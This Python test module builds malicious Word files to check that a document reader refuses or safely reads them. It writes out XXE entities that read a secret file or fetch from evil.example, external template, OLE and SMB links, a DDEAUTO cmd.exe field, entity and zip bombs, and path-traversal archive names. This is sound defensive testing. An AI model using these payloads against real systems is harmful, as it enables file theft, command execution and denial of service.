"""Word files that reach out, explode, nest without end or lie about what they are."""

from __future__ import annotations

import io
import zipfile
import zlib
from typing import TYPE_CHECKING

from tests.corpus.readers.word_files import word_file

if TYPE_CHECKING:
    from collections.abc import Iterator, Mapping

CLAUSE = "<w:p><w:r><w:t>1.1 乙方不承担任何责任。</w:t></w:r></w:p>"
MAIN = "word/document.xml"
RELATIONS = "word/_rels/document.xml.rels"
_W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def files(secret: str) -> Iterator[tuple[str, bytes, str]]:
    """Name, bytes and outcome; `secret` is a file that nobody may read through them."""
    whole = word_file(CLAUSE)
    yield from _reaching(whole, secret)
    yield from _exploding(whole)
    yield from _nesting()
    yield from _lying(whole)


def _reaching(whole: bytes, secret: str) -> Iterator[tuple[str, bytes, str]]:
    for name, kind, target in (
        ("image", "image", "http://evil.example/x.png"),
        ("template", "attachedTemplate", "http://evil.example/x.dotm"),
        ("frame", "frame", "file:///etc/passwd"),
        ("ole", "oleObject", "http://evil.example/x.bin"),
        ("link", "hyperlink", "javascript:alert(1)"),
        ("smb", "image", "\\\\evil.example\\share\\x.png"),
    ):
        relation = f'<Relationship Id="rX" Type="{_OFFICE}/{kind}" Target="{target}" TargetMode="External"/>'
        yield f"external-{name}", _changed(whole, {RELATIONS: _within(whole, RELATIONS, relation)}), "read"
    yield "macros", _changed(whole, {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0" + b"AutoOpen Shell" * 50}), "read"
    yield "embedded", _changed(whole, {"word/embeddings/oleObject1.bin": b"MZ" + bytes(5000)}), "read"
    chunk = b"<html><script>alert(1)</script><p>hacked</p></html>"
    yield "html-part", _changed(word_file(f'{CLAUSE}<w:altChunk r:id="rX"/>'), {"word/chunk.html": chunk}), "read"
    for name, words in (
        ("include", f'INCLUDETEXT "{secret}"'),
        ("dde", "DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe"),
        ("picture", 'INCLUDEPICTURE "http://evil.example/x.png"'),
    ):
        yield f"field-{name}", word_file(f"{CLAUSE}<w:p><w:r><w:instrText>{words}</w:instrText></w:r></w:p>"), "read"
    doctypes = {
        "file": f'<!DOCTYPE d [<!ENTITY x SYSTEM "file://{secret}">]>',
        "web": '<!DOCTYPE d [<!ENTITY x SYSTEM "http://evil.example/x">]>',
        "dtd": '<!DOCTYPE d SYSTEM "http://evil.example/x.dtd" [<!ENTITY x "y">]>',
        "parameter": f'<!DOCTYPE d [<!ENTITY % p SYSTEM "file://{secret}"> %p; <!ENTITY x "y">]>',
        "laughs": "<!DOCTYPE d [<!ENTITY a 'ha'>"
        + "".join(f"<!ENTITY {chr(98 + n)} '{f'&{chr(97 + n)};' * 10}'>" for n in range(12))
        + "<!ENTITY x '&m;'>]>",
        "quadratic": f"<!DOCTYPE d [<!ENTITY x '{'a' * 100_000}'>]>",
    }
    for name, doctype in doctypes.items():
        entity = "&x;" * (20_000 if name == "quadratic" else 1)
        body = f"<w:p><w:r><w:t>1.1 乙方{entity}不承担任何责任。</w:t></w:r></w:p>"
        document = f"<?xml version='1.0'?>{doctype}<w:document {_W}><w:body>{body}</w:body></w:document>"
        yield f"entity-{name}", _changed(whole, {MAIN: document.encode()}), "refused"
    for part in ("word/styles.xml", RELATIONS, "[Content_Types].xml"):
        changed = doctypes["file"].encode() + _part(whole, part).partition(b"?>")[2]
        yield f"entity-in-{part}", _changed(whole, {part: changed}), "read" if part.startswith("[") else "refused"


def _exploding(whole: bytes) -> Iterator[tuple[str, bytes, str]]:
    spaces = f"<w:document {_W}><w:body>{CLAUSE}{' ' * 40_000_000}</w:body></w:document>".encode()
    yield "bomb-main", _changed(whole, {MAIN: spaces}), "refused"
    yield "bomb-styles", _changed(whole, {"word/styles.xml": b"<a>" + b" " * 40_000_000 + b"</a>"}), "refused"
    yield "bomb-unused", _changed(whole, {"word/media/image1.png": bytes(40_000_000)}), "read"
    yield "million-runs", word_file("<w:p>" + "<w:r><w:t>责</w:t></w:r>" * 1_000_000 + "</w:p>"), "refused"
    yield "many-members", _changed(whole, {f"word/media/{n}.png": b"" for n in range(20_000)}), "refused"
    yield "long-paragraph", word_file(f"<w:p><w:r><w:t>1.1 {'责' * 3_000_000}</w:t></w:r></w:p>"), "refused"
    yield "empty-paragraphs", word_file("<w:p/>" * 200_000 + CLAUSE), "refused"
    yield "long-attribute", word_file(f'<w:p w:rsidR="{"0" * 5_000_000}"/>{CLAUSE}'), "refused"
    inner = io.BytesIO()
    with zipfile.ZipFile(inner, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("bomb", bytes(10_000_000))
    yield "archive-inside", _changed(whole, {"word/embeddings/x.zip": inner.getvalue()}), "read"


def _nesting() -> Iterator[tuple[str, bytes, str]]:
    deep = 3_000
    inner = f"<w:p><w:r><w:t>{'深' * 5}</w:t></w:r></w:p>"
    table = "<w:tbl><w:tr><w:tc>" * deep + inner + "</w:tc></w:tr></w:tbl>" * deep
    yield "nested-tables", word_file(CLAUSE + table), "refused"
    boxes = "<w:sdt><w:sdtContent>" * deep + inner + "</w:sdtContent></w:sdt>" * deep
    yield "nested-controls", word_file(CLAUSE + boxes), "refused"
    yield "nested-unknown", word_file(CLAUSE + "<w:smartTag>" * deep + "</w:smartTag>" * deep), "refused"
    yield (
        "nested-inserts",
        word_file(f"<w:p>{'<w:ins>' * deep}<w:r><w:t>深</w:t></w:r>{'</w:ins>' * deep}</w:p>{CLAUSE}"),
        "refused",
    )
    cycle = (
        '<w:style w:type="paragraph" w:styleId="A"><w:basedOn w:val="B"/></w:style>'
        '<w:style w:type="paragraph" w:styleId="B"><w:basedOn w:val="A"/></w:style>'
    )
    styled = '<w:p><w:pPr><w:pStyle w:val="A"/></w:pPr><w:r><w:t>1.1 乙方不承担任何责任。</w:t></w:r></w:p>'
    yield "styles-in-a-circle", word_file(styled, styles=cycle), "read"
    own = '<w:style w:type="paragraph" w:styleId="A"><w:basedOn w:val="A"/></w:style>'
    yield "style-on-itself", word_file(styled, styles=own), "read"
    numbered = (
        '<w:p><w:pPr><w:numPr><w:ilvl w:val="999999999"/><w:numId w:val="-7"/></w:numPr></w:pPr>'
        "<w:r><w:t>乙方不承担任何责任。</w:t></w:r></w:p>"
    )
    levels = (
        '<w:abstractNum w:abstractNumId="1"><w:lvl w:ilvl="0"><w:start w:val="99999999999999999999"/>'
        '<w:numFmt w:val="chineseCounting"/><w:lvlText w:val="%1%2%3%4%5%6%7%8%9"/></w:lvl></w:abstractNum>'
        '<w:num w:numId="1"><w:abstractNumId w:val="1"/></w:num>'
    )
    yield "numbers-out-of-range", word_file(CLAUSE + numbered, numbering=levels), "read"
    first = (
        '<w:p><w:pPr><w:numPr><w:ilvl w:val="0"/><w:numId w:val="1"/></w:numPr></w:pPr><w:r><w:t>条</w:t></w:r></w:p>'
    )
    yield "number-too-large", word_file(CLAUSE + first, numbering=levels), "read"
    for name, words in (("wide", "99999999999"), ("negative", "-5"), ("letters", "x")):
        cell = f'<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val="{words}"/></w:tcPr>{inner}</w:tc></w:tr></w:tbl>'
        yield f"cell-{name}", word_file(CLAUSE + cell), "read"


def _lying(whole: bytes) -> Iterator[tuple[str, bytes, str]]:
    yield "cut-in-half", whole[: len(whole) // 2], "refused"
    yield "cut-at-the-end", whole[:-30], "refused"
    yield "no-document", _changed(whole, {MAIN: None}), "refused"
    yield "empty-document", _changed(whole, {MAIN: b""}), "refused"
    yield "not-xml", _changed(whole, {MAIN: b"<w:document><w:body>"}), "refused"
    yield "other-xml", _changed(whole, {MAIN: b"<html><script>alert(1)</script></html>"}), "refused"
    yield "no-types", _changed(whole, {"[Content_Types].xml": None}), "read"
    yield "empty-archive", b"PK\x05\x06" + bytes(18), "refused"
    yield "only-a-signature", b"PK\x03\x04", "refused"
    yield "wrong-checksum", _broken_member(whole), "refused"
    yield "encrypted", _encrypted(whole), "refused"
    for number, name in enumerate(("../../etc/cron.d/x", "/etc/x", "C:\\x", "word/../../x", "word/a\0b", "a" * 3000)):
        yield f"member-name-{number}", _changed(whole, {name: b"hacked"}), "read"
    yield "twice-the-same", _twice(whole), "read"
    text = _part(whole, MAIN).decode().replace('encoding="UTF-8"', 'encoding="UTF-7"')
    yield "odd-encoding", _changed(whole, {MAIN: text.encode()}), "read"
    yield (
        "deleted-words",
        word_file(f"{CLAUSE}<w:p><w:del><w:r><w:delText>hacked</w:delText></w:r></w:del></w:p>"),
        "read",
    )
    hidden = "<w:p><w:r><w:rPr><w:vanish/></w:rPr><w:t>hacked</w:t></w:r></w:p>"
    yield "hidden-words", word_file(CLAUSE + hidden), "read"


def _part(whole: bytes, name: str) -> bytes:
    with zipfile.ZipFile(io.BytesIO(whole)) as archive:
        return archive.read(name)


def _within(whole: bytes, name: str, addition: str) -> bytes:
    head, close, tail = _part(whole, name).rpartition(b"</Relationships>")
    return head + addition.encode() + close + tail


def _changed(whole: bytes, parts: Mapping[str, bytes | None]) -> bytes:
    """Write the archive anew with these parts; None leaves one out."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(whole)) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for member in source.namelist():
            if member not in parts:
                target.writestr(member, source.read(member))
        for name, data in parts.items():
            if data is not None:
                target.writestr(zipfile.ZipInfo(name), data, zipfile.ZIP_DEFLATED)
    return out.getvalue()


def _broken_member(whole: bytes) -> bytes:
    data = _part(whole, MAIN)
    packed = _changed(whole, {})
    crc = zlib.crc32(data).to_bytes(4, "little")
    return packed.replace(crc, bytes(byte ^ 255 for byte in crc))


def _encrypted(whole: bytes) -> bytes:
    data = bytearray(_changed(whole, {}))
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        place = data.find(mark)
        while place >= 0:
            data[place + offset] |= 1
            place = data.find(mark, place + 4)
    return bytes(data)


def _twice(whole: bytes) -> bytes:
    out = io.BytesIO(whole)
    import warnings  # noqa: PLC0415

    with warnings.catch_warnings():
        warnings.simplefilter("ignore", UserWarning)  # zipfile says that the name is there already
        with zipfile.ZipFile(out, "a") as archive:
            archive.writestr(MAIN, _part(whole, MAIN))
    return out.getvalue()
